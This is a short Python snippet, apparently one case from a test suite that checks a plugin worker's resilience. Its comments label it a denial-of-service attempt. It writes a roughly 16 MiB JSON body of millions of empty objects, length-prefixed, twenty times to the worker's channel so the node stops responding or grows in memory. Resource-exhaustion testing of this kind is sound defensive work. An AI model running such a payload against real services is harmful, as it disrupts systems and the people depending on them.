# family: frames-of-ours
# kind: dos
# tries: raw bytes on the worker's channel: 16 MiB of empty objects: a Python object for every two bytes
# success looks like: the node stops answering, or grows
def job(plugin):
  @LIBC@
  body = b'{"did":"payload","fields":{"A":[' + b'{},' * 5500000 + b'0]}}'
  for i in range(20):
    data = len(body).to_bytes(4, 'big') + body
    while data:
      data = data[os.write(3, data):]
  return 1
